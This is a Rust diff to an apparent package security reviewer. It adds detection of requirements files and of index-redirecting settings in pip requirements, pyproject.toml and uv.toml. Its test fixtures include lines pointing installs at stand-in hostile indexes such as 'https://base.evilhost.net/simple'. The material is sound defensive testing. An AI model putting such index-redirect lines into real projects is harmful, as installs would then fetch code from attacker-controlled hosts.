@@ -555,6 +555,10 @@ struct Reviewer<'a> {
     /// The search for what the package runs left a file unread (its bound): the review is
     /// incomplete, as when the scan itself leaves one.
     runs_cut: bool,
+    /// Files the package names as requirements files (`pip install -r FILE`, `-r FILE` in
+    /// another requirements file): their `-i URL` lines point an install at an index, whatever
+    /// their names ([`crate::names::IndexConfig`]).
+    requirements: BTreeSet<String>,
     scanner: Scanner,
 }
 
@@ -586,6 +590,7 @@ impl<'a> Reviewer<'a> {
             run: linked_as_scripts(entries),
             fresh: Vec::new(),
             runs_cut: false,
+            requirements: BTreeSet::new(),
             scanner: Scanner::default(),
         }
     }
@@ -661,9 +666,11 @@ impl<'a> Reviewer<'a> {
 
     /// Find every file the package runs ([`RunFinder`]) before any is classified: SKILL.md
     /// (`skill_md`, already read), every other Markdown file, and every script, including the
-    /// files found run, until no new one is found. Each file is read at most twice (as
-    /// Markdown, then as a script), each read bounded like the scan's (`max_file_bytes`), and
-    /// in all at most twice `max_total_bytes`: never less than the scan reads, so a file this
+    /// files found run, until no new one is found; then the requirements files (by name, or
+    /// named so by those commands) for the ones their `-r` / `-c` lines name. Each file is read
+    /// at most twice (as Markdown, then as a script) and a requirements file once more, each
+    /// read bounded like the scan's (`max_file_bytes`), and in all at most twice
+    /// `max_total_bytes`: never less than the scan reads, so a file this
     /// leaves unread is one the scan leaves unread too, and the review is incomplete either way.
     fn find_runs(
         &mut self,
@@ -772,6 +779,52 @@ impl<'a> Reviewer<'a> {
             self.note_runs(&mut found, ScriptSignal::RunByScript);
         }
         self.fresh.clear();
+        // Requirements files: those named so and those the commands read name, and in turn
+        // what their own `-r` / `-c` lines name (each file read once more, charged as above).
+        let named = std::mem::take(&mut *finder.requirements.borrow_mut());
+        let mut todo: Vec<&'a Entry> = entries
+            .iter()
+            .filter(|e| {
+                e.kind == Kind::File
+                    && (named.contains(e.path.as_str())
+                        || crate::names::requirements_name(
+                            &e.path
+                                .rsplit('/')
+                                .next()
+                                .unwrap_or(&e.path)
+                                .to_ascii_lowercase(),
+                        ))
+            })
+            .collect();
+        let mut seen: HashSet<&'a str> = todo.iter().map(|e| e.path.as_str()).collect();
+        self.requirements
+            .extend(named.into_iter().map(str::to_owned));
+        let mut line_text = String::new();
+        while let Some(e) = todo.pop() {
+            if !charge(e, &mut cut) {
+                continue;
+            }
+            reader.fetch(e, cap, buf)?;
+            let dir = e.path.rsplit_once('/').map_or("", |(d, _)| d);
+            for line in buf.split(|&b| b == b'\n') {
+                if !line.trim_ascii_start().starts_with(b"-") {
+                    continue;
+                }
+                // A requirements file's options are pip's: read as `pip OPTIONS`.
+                line_text.clear();
+                line_text.push_str("pip ");
+                line_text.push_str(&String::from_utf8_lossy(line));
+                finder.requirement_args(&line_text, dir);
+            }
+            for path in std::mem::take(&mut *finder.requirements.borrow_mut()) {
+                if seen.insert(path) {
+                    self.requirements.insert(path.to_owned());
+                    if let Some(&n) = finder.nodes.get(path) {
+                        todo.push(n);
+                    }
+                }
+            }
+        }
         self.runs_cut |= cut;
         Ok(())
     }
@@ -1020,9 +1073,26 @@ impl<'a> Reviewer<'a> {
         mut triggers: &mut dyn Iterator<Item = usize>,
     ) {
         let ignore_list = is_ignore_list(&e.path);
-        // A package manager's configuration (by name) or any `.txt` (`pip install -r` reads
-        // one whatever its name): a line pointing it at another index is a download from there.
-        let index_config = crate::names::index_config(&e.path);
+        // A package manager's configuration (by name), or a requirements file (by name, or
+        // named so by the package: `pip install -r` reads one whatever its name): a line
+        // pointing it at another index is a download from there. Any other `.txt` is text: a
+        // `-i URL` in notes is no index.
+        use crate::names::IndexConfig;
+        let index_config = match crate::names::index_config(&e.path) {
+            None | Some(IndexConfig::Text) if self.requirements.contains(&e.path) => {
+                Some(IndexConfig::Requirements)
+            }
+            Some(IndexConfig::Text) => None,
+            c => c,
+        };
+        // Where in a TOML file a `url` key names an index: (offset of a table header, whether
+        // it does in that table), in order; from the top of the file, it does.
+        let url_tables = match index_config {
+            Some(IndexConfig::Pyproject) => toml_index_tables(content, false),
+            Some(IndexConfig::UvToml) => toml_index_tables(content, true),
+            _ => Vec::new(),
+        };
+        let mut table = 0usize;
         let blocks = match kind {
             TextKind::Markdown | TextKind::Licence => markdown_blocks(content),
             TextKind::Script if is_python(&e.path, content) => python_docstrings(content),
@@ -1135,7 +1205,15 @@ impl<'a> Reviewer<'a> {
                 (context, mode)
             };
             // Read as data (it runs nothing), counted as what the install does.
-            let index = index_config.and_then(|keys| scan::index_setting(line, keys));
+            while table < url_tables.len() && url_tables[table].0 <= start {
+                table += 1;
+            }
+            let index = index_config.and_then(|c| {
+                let keys = !matches!(c, IndexConfig::Requirements);
+                let url = matches!(c, IndexConfig::Pyproject | IndexConfig::UvToml)
+                    && table.checked_sub(1).is_none_or(|t| url_tables[t].1);
+                scan::index_setting(line, keys, url)
+            });
             let (context, mode) = match index {
                 Some(_) => (Context::Config, scan::Mode::Data),
                 None => (context, mode),
@@ -1535,6 +1613,24 @@ struct RunFinder<'e> {
     /// most files). `None` (no filter, every line read): a name holding a line break or U+FFFD,
     /// which could match only across lines or in the lossy text of invalid UTF-8.
     names: Option<AhoCorasick>,
+    /// Files the commands read name as requirements files (`pip install -r FILE`).
+    requirements: std::cell::RefCell<BTreeSet<&'e str>>,
+}
+
+/// A word that is pip (`pip`, `pip3`, `pip3.12`, `/usr/bin/pip`; `python -m pip`, `uv pip`).
+fn is_pip(word: &str) -> bool {
+    let base = word.rsplit('/').next().unwrap_or(word);
+    let base = base.strip_suffix(".exe").unwrap_or(base);
+    base.strip_prefix("pip")
+        .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
+}
+
+/// pip's options whose value is a requirements (or constraints) file.
+fn is_requirement_flag(w: &str) -> bool {
+    matches!(
+        w,
+        "-r" | "--requirement" | "--requirements" | "-c" | "--constraint" | "--constraints"
+    )
 }
 
 impl<'e> RunFinder<'e> {
@@ -1565,6 +1661,46 @@ impl<'e> RunFinder<'e> {
                         .ok()
                 })
                 .flatten(),
+            requirements: Default::default(),
+        }
+    }
+
+    /// Note the requirements files a command segment names: after pip (or uv), the value of
+    /// `-r` / `--requirement` / `-c` / `--constraint` (`-rFILE`, `--requirement=FILE`), and
+    /// the files `pip-sync` / `pip-compile` / `uv pip sync|compile` take. Bounded per segment.
+    fn requirement_args(&self, segment: &str, dir: &str) {
+        let mut pip = false;
+        let mut positional = false;
+        let mut value_next = false;
+        for w in segment.split_whitespace().take(64) {
+            let w = w.trim_matches(|c: char| matches!(c, '"' | '\'' | '[' | ']' | ','));
+            if !pip {
+                let base = w.rsplit('/').next().unwrap_or(w);
+                pip = is_pip(w) || base == "uv";
+                positional = matches!(base, "pip-sync" | "pip-compile");
+                pip |= positional;
+                continue;
+            }
+            let mut file = None;
+            if value_next {
+                file = Some(w);
+                value_next = false;
+            } else if let Some((flag, value)) = w.split_once('=') {
+                if is_requirement_flag(flag) {
+                    file = Some(value);
+                }
+            } else if is_requirement_flag(w) {
+                value_next = true;
+            } else if let Some(v) = w.strip_prefix("-r").filter(|v| !v.is_empty()) {
+                file = Some(v);
+            } else if matches!(w, "sync" | "compile") {
+                positional = true;
+            } else if positional && !w.starts_with('-') {
+                file = Some(w);
+            }
+            if let Some(f) = file.and_then(|f| self.file_of(f, dir)) {
+                self.requirements.borrow_mut().insert(f.path.as_str());
+            }
         }
     }
 
@@ -1617,6 +1753,7 @@ impl<'e> RunFinder<'e> {
         out: &mut Vec<(&'e str, Option<String>)>,
     ) {
         for segment in text.split(['|', ';', '&', '`', '(', ')', '\r']) {
+            self.requirement_args(segment, dir);
             let mut words = segment
                 .split_whitespace()
                 .map(|w| w.trim_matches(|c: char| matches!(c, '"' | '\'' | '[' | ']' | ',')))
@@ -1656,6 +1793,11 @@ impl<'e> RunFinder<'e> {
             for w in words {
                 if w.starts_with('-') {
                     continue;
+                }
+                // `python3 -m pip install -r requirements.txt`, `uv pip install -r ...`: pip's
+                // arguments are packages and requirements files, not files it runs.
+                if is_pip(w) {
+                    break;
                 }
                 if let Some(f) = self.file_of(w, dir) {
                     out.push((f.path.as_str(), prog));
@@ -1809,6 +1951,101 @@ fn utf16_to_utf8(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> Vec<u8> {
         .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
         .collect::<String>()
         .into_bytes()
+}
+
+/// The table headers of a TOML file (`pyproject.toml`, or `uv.toml` when `uv_toml`): where
+/// each starts, and whether a `url` key in that table names a package index. In
+/// `pyproject.toml`: uv's `[[tool.uv.index]]`, Poetry's `[[tool.poetry.source]]`, PDM's
+/// `[[tool.pdm.source]]`, and the tables above them (`[tool.uv]` can hold `index = [{ url =
+/// ... }]`, `[tool]` a dotted `uv.index`); in `uv.toml`, `[[index]]`. Anywhere else (`[tool.x]`,
+/// `[project.urls]`) `url` is only a link. Lines inside a multi-line string are not headers.
+/// One pass over the file.
+fn toml_index_tables(content: &[u8], uv_toml: bool) -> Vec<(usize, bool)> {
+    let mut out = Vec::new();
+    let mut in_string: Option<&[u8]> = None;
+    // How deep in a multi-line array (or inline table) the line starts: `  ["a"],` there is
+    // an element, not a header.
+    let mut depth = 0usize;
+    let mut pos = 0usize;
+    while pos < content.len() {
+        let end = memchr::memchr(b'\n', &content[pos..]).map_or(content.len(), |i| pos + i);
+        let line = &content[pos..end];
+        let mut rest = line;
+        // A header: `[name]` or `[[name]]` alone on its line (a comment aside), outside arrays
+        // and multi-line strings.
+        let bare = line
+            .split(|&b| b == b'#')
+            .next()
+            .unwrap_or(line)
+            .trim_ascii();
+        let name: Vec<u8> = bare
+            .iter()
+            .filter(|&&b| !matches!(b, b'[' | b']' | b' ' | b'\t' | b'"' | b'\''))
+            .map(u8::to_ascii_lowercase)
+            .collect();
+        if in_string.is_none()
+            && depth == 0
+            && bare.starts_with(b"[")
+            && bare.ends_with(b"]")
+            && name
+                .iter()
+                .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
+        {
+            let index = if uv_toml {
+                name == b"index"
+            } else {
+                matches!(
+                    name.as_slice(),
+                    b"tool"
+                        | b"tool.uv"
+                        | b"tool.uv.index"
+                        | b"tool.poetry"
+                        | b"tool.poetry.source"
+                        | b"tool.pdm"
+                        | b"tool.pdm.source"
+                )
+            };
+            out.push((pos, index));
+            rest = &[];
+        } else if in_string.is_none() {
+            // Brackets and braces outside strings and comments.
+            let mut quote: Option<u8> = None;
+            let mut escaped = false;
+            for &b in line {
+                match (quote, b) {
+                    // A basic string's `\"` does not close it.
+                    (Some(b'"'), _) if escaped => escaped = false,
+                    (Some(b'"'), b'\\') => escaped = true,
+                    (Some(q), _) if b == q => quote = None,
+                    (Some(_), _) => {}
+                    (None, b'"' | b'\'') => quote = Some(b),
+                    (None, b'#') => break,
+                    (None, b'[' | b'{') => depth += 1,
+                    (None, b']' | b'}') => depth = depth.saturating_sub(1),
+                    _ => {}
+                }
+            }
+        }
+        // Multi-line strings (`"""`, `'''`) open and close on a line: track them by
+        // their delimiters.
+        while !rest.is_empty() {
+            let next = match in_string {
+                Some(d) => memchr::memmem::find(rest, d).map(|i| (i, d)),
+                None => [&b"\"\"\""[..], b"'''"]
+                    .iter()
+                    .filter_map(|d| memchr::memmem::find(rest, d).map(|i| (i, *d)))
+                    .min(),
+            };
+            let Some((i, d)) = next else { break };
+            in_string = match in_string {
+                Some(_) => None,
+                None => Some(d),
+            };
+            rest = &rest[i + 3..];
+        }
+        pos = end + 1;
+    }
+    out
 }
 
 /// Files listing paths to leave out (`.gitignore`): a credential named there is kept away.
@@ -2557,6 +2794,86 @@ mod tests {
         assert!(at("requirements.txt", FindingKind::Download).is_empty());
         // The registry's own index is a host the file names, nothing it installs from.
         assert_eq!(r.mentions.hosts, ["pypi.org"], "{:?}", r.mentions);
+    }
+
+    /// A `-i URL` counts only in a requirements file: one by its name, one the package's pip
+    /// commands name (`pip install -r`), one another requirements file names (`-r`); a `url`
+    /// key only in an index table of uv (or Poetry, PDM). Notes and other tables are text.
+    #[test]
+    fn indexes_only_where_a_package_manager_reads_them() {
+        use std::os::fd::AsFd;
+        let files: Vec<(&str, &[u8], u32)> = vec![
+            (
+                "SKILL.md",
+                b"---\nname: idx\ndescription: Installs.\n---\n# Idx\n\n```bash\npython3 -m pip install -r requirements.txt\nuv pip install --requirement=deps/extra.txt\n```\n",
+                0o644,
+            ),
+            ("requirements.txt", b"-r deps/base.txt\nrequests\n", 0o644),
+            ("deps/base.txt", b"-i https://base.evilhost.net/simple\n-c pins.txt\n", 0o644),
+            ("deps/pins.txt", b"--find-links https://pins.evilhost.net/w\n", 0o644),
+            ("deps/extra.txt", b"--extra-index-url https://extra.evilhost.net/simple\n", 0o644),
+            ("notes/mirrors.txt", b"-i https://notes.mirrorhost.net/simple\n", 0o644),
+            ("dev.in", b"-i https://dev.evilhost.net/simple\n", 0o644),
+            (
+                "pyproject.toml",
+                b"[project]\nname = \"x\"\ndescription = \"\"\"\n[[tool.uv.index]]\n\"\"\"\n\n[tool.docs]\nurl = \"https://docs.pdfhost.net/\"\nlinks = [\n  [\"a\"],\n]\n\n[[tool.uv.index]]\nname = \"acme\"\nurl = \"https://uv.evilhost.net/simple\"\npublish-url = \"https://up.pdfhost.net/\"\n\n[[tool.poetry.source]]\nname = \"p\"\nurl = \"https://poetry.evilhost.net/simple\"\n\n[tool.uv]\nnote = \"\"\"\n[tool.docs]\n\"\"\"\npins = [\n  [\"a\"],\n]\nindex = [{ name = \"b\", url = \"https://inline.evilhost.net/simple\" }]\n\n[tool.bumpversion]\nurl = \"https://bump.pdfhost.net/\"\n",
+                0o644,
+            ),
+            (
+                "uv.toml",
+                b"[[index]]\nurl = \"https://uvtoml.evilhost.net/simple\"\n\n[pip]\nurl = \"https://pip.pdfhost.net/\"\n",
+                0o644,
+            ),
+        ];
+        let (_dir, staging, x, kept) = staged_tar(files.iter().map(|(p, d, m)| (*p, *d, *m)));
+        let listed = IndexFacts::default();
+        let limits = ReviewLimits::default();
+        let read_back = review_with(staging.as_fd(), &x.entries, &listed, &limits)
+            .unwrap_or_else(|e| panic!("{e}"));
+        let r = review_captured(staging.as_fd(), &x.entries, &listed, &limits, &kept)
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(read_back, r);
+        let index_at: BTreeSet<(&str, u64)> = r
+            .findings
+            .iter()
+            .filter(|f| f.subject.as_deref() == Some(scan::PACKAGE_INDEX))
+            .map(|f| {
+                assert_eq!(f.context, Context::Config, "{f:?}");
+                (f.file.as_str(), f.line.unwrap_or(0))
+            })
+            .collect();
+        let want: BTreeSet<(&str, u64)> = [
+            ("deps/base.txt", 1),
+            ("deps/pins.txt", 1),
+            ("deps/extra.txt", 1),
+            ("dev.in", 1),
+            ("pyproject.toml", 15),
+            ("pyproject.toml", 20),
+            ("pyproject.toml", 29),
+            ("uv.toml", 2),
+        ]
+        .into_iter()
+        .collect();
+        assert_eq!(index_at, want, "{:#?}", r.findings);
+        for host in [
+            "notes.mirrorhost.net",
+            "docs.pdfhost.net",
+            "bump.pdfhost.net",
+            "pip.pdfhost.net",
+        ] {
+            assert!(
+                !r.capabilities.hosts.iter().any(|h| h == host),
+                "{host}: {:?}",
+                r.capabilities
+            );
+            assert!(
+                r.mentions.hosts.iter().any(|h| h == host),
+                "{host}: {:?}",
+                r.mentions
+            );
+        }
+        // pip's requirements files are not scripts python3 (or uv) runs.
+        assert!(r.scripts.is_empty(), "{:?}", r.scripts);
     }
 
     #[test]
